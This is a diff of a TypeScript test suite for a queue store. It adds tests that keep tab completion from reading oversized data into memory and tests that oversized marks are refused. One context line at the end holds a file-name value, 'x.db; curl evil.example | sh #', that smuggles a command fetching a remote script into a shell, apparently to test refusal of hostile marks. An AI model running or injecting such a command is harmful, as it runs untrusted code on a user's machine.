@@ -158,6 +158,79 @@ describe('a store whose schema was changed', () => {
   })
 })
 
+describe('a store with more in it than memory should hold', () => {
+  const peak = "process.on('exit', () => process.stderr.write(String(process.resourceUsage().maxRSS)))"
+  const long = 'hex(zeroblob(50000000))'
+  const columns =
+    'namespace, queue, workflow, state, phase, priority, ancestors, blockers, waiting_for, attempts, failures, crashes, exposures, crash_resets, max_attempts, added_at, state_changed_at, version, token, data'
+  const many = `with recursive c(n) as (select 1 union all select n + 1 from c where n < 400)
+insert into item (id, payload, ${columns}) select id || n, json_quote(hex(zeroblob(125000))), ${columns} from item, c`
+
+  /** What a tab offers as items of a queue, and the most memory that its process ever had, in MB. */
+  function completeItems(cwd: string): { offered: string[]; megabytes: number } {
+    const words = [
+      '--import',
+      `data:text/javascript,${peak}`,
+      program,
+      'complete',
+      '--',
+      'queue',
+      'show',
+      'jobs',
+      '',
+    ]
+    const { stdout, stderr } = spawnSync(process.execPath, words, {
+      cwd,
+      env: cleanEnvironment(),
+      encoding: 'utf8',
+      timeout: patienceMs,
+      killSignal: 'SIGKILL',
+    })
+    return { offered: stdout.split('\n').filter(Boolean), megabytes: Number(stderr) / 1024 }
+  }
+
+  /** 100 MB that were read would take three times as much. */
+  const allowance = 60
+
+  test('is not read at a tab, and what else is in it is offered [S5d-4]', async () => {
+    const { repository: friendly, store } = aClone(() => {})
+    const hf = await open(store, quiet)
+    await hf.queue('jobs').add('more')
+    await hf.close()
+    const { repository } = aClone((database) =>
+      database.exec(
+        `insert into item (id, payload, ${columns}) select id || '-long', json_quote(${long}), ${columns} from item`,
+      ),
+    )
+
+    const usual = completeItems(friendly)
+    const bounded = completeItems(repository)
+
+    expect(usual.offered).toHaveLength(2)
+    expect(bounded.offered).toHaveLength(1)
+    expect(usual.megabytes).toBeGreaterThan(20)
+    expect(bounded.megabytes - usual.megabytes).toBeLessThan(allowance)
+  })
+
+  test('is read at a tab only as far as a few megabytes go [S5d-4]', () => {
+    const usual = completeItems(aClone(() => {}).repository)
+    const bounded = completeItems(aClone((database) => database.exec(many)).repository)
+
+    expect(bounded.offered.length).toBeGreaterThan(10)
+    expect(bounded.megabytes - usual.megabytes).toBeLessThan(allowance)
+  })
+
+  test('in the place of a mark is refused by every command, unread [S5d-4]', async () => {
+    const { store } = aClone((database) =>
+      database.exec("insert into meta (key, value) values ('moved', hex(zeroblob(1000000)))"),
+    )
+
+    const refusal = await refusalOf(store)
+
+    expect(refusal).toMatchObject({ code: 'STORE_UNFIT', what: expect.stringContaining('longer than any') })
+  })
+})
+
 describe('a mark that the author of a store left in it', () => {
   const evil = 'x.db; curl evil.example | sh #'
   const copyMark = {
